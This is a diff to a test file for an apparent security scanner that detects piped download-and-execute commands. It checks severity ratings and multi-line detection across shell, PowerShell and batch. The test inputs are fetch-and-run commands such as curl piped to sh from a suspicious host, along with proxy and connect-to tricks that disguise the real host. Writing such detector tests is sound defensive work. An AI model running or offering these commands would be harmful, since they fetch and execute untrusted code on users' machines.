@@ -100,8 +100,27 @@ describe('the reputation of a host', () => {
     ['https://sh.rustup.rs\\@get-fast.top/i.sh', 'medium'],
     ['-e https://sh.rustup.rs get-fast.top/i.sh', 'medium'],
     ['-fsSL get-fast.top/i.sh https://sh.rustup.rs', 'medium'],
+    ['-x get-fast.top:80 http://sh.rustup.rs', 'medium'],
+    ['-fsSLk https://sh.rustup.rs', 'medium'],
+    ['--connect-to ::get-fast.top https://sh.rustup.rs', 'medium'],
+    ['-K a.cfg https://sh.rustup.rs', 'medium'],
+    ['-sk https://127.0.0.1:8443/i.sh', 'low'],
+    ['--proto =https --tlsv1.2 -sSf https://sh.rustup.rs', 'low'],
   ])('%s -> %s', (address, severity) => {
     expect(scan({ 'a.sh': `curl ${address} | sh` })[0]?.severity).toBe(severity)
+  })
+})
+
+describe('a command goes on in a later line', () => {
+  test.each([
+    ['a.sh', 'curl -s https://far.dev/i.sh |\n\n  # tidy\n  sh\n'],
+    ['a.ps1', 'iwr https://far.dev/i.ps1 `\n  | iex\n'],
+    ['a.bat', 'curl https://far.dev/i.bat ^\n  | cmd\n'],
+  ])('%s %j', (path, text) => {
+    expect(scan({ [path]: text })[0]).toMatchObject({ rule: 'pipe-to-shell', line: 1 })
+  })
+  test('but not behind an empty line without a pipe', () => {
+    expect(scan({ 'a.sh': 'curl -s https://far.dev/i.sh \\\n\n| sh\n' })).toEqual([])
   })
 })
 
